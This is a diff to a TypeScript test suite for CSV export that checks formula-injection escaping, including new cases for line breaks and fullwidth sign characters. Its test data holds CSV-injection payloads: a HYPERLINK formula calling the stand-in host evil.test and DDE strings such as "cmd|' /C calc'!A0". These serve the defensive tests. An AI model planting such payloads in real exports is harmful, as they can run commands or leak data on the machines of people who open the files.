@@ -127,6 +127,19 @@ describe.each(testDatabases())('CSV export of every list on %s', (kind) => {
     expect(answer.rows[1]).toEqual(['csv_formula', '\'=HYPERLINK("http://evil.test","x")', '\'+7 900 000-00-00']);
   });
 
+  test('a value with a bare line break stays one cell of one row, so what follows the break never begins a row; fullwidth signs are escaped (issue 30 item 1)', async () => {
+    const created = await call(t.app, 'POST', '/api/variable/create/', { token: token['admin@demo.test'], body: { key: 'csvline_break', value: 'a\n=1+1', description: 'b\r+1+1\r\n@SUM(1)' } });
+    expect(created.status).toBe(201);
+    const fullwidth = await call(t.app, 'POST', '/api/variable/create/', { token: token['admin@demo.test'], body: { key: 'csvline_fullwidth', value: '\uFF1D1+1', description: '\uFF20SUM(1)' } });
+    expect(fullwidth.status).toBe(201);
+    const answer = await csv('/api/variables/?format=csv&fields=key,value,description&search=csvline&ordering=key', 'admin@demo.test');
+    expect(answer.rows).toEqual([
+      ['Ключ', 'Значение', 'Описание'],
+      ['csvline_break', 'a\n=1+1', 'b\r+1+1\r\n@SUM(1)'],
+      ['csvline_fullwidth', '\'\uFF1D1+1', '\'\uFF20SUM(1)'],
+    ]);
+  });
+
   test('?fields picks and orders the columns; an unknown or inherited name is a 400 naming it', async () => {
     const answer = await csv('/api/orders/?format=csv&fields=total,number', 'admin@demo.test');
     expect(answer.rows[0]).toEqual(['Итого', 'Номер']);
@@ -164,7 +177,8 @@ describe.each(testDatabases())('CSV export of every list on %s', (kind) => {
 
 describe('escaping a cell against formulas (OWASP), whatever the value', () => {
   const column = (schema: TSchema = Type.String(), field = 'x'): CsvColumn => csvColumns(Type.Object({ [field]: schema }), undefined, {}, { list: 'orders' })[0];
-  const dangerous = ['=HYPERLINK("http://evil.test?"&CHAR(104),"x")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1', '\r=1', '-5', '+7 900 000-00-00'];
+  const dangerous = ['=HYPERLINK("http://evil.test?"&CHAR(104),"x")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1', '\r=1', '-5', '+7 900 000-00-00',
+    '\uFF1D1+1', '\uFF0B1+1', '\uFF0D2+3', '\uFF20SUM(1)'];
 
   test.each(dangerous)('%j as a plain value', (text) => {
     expect(escapeCell(text)).toBe(`'${text}`);
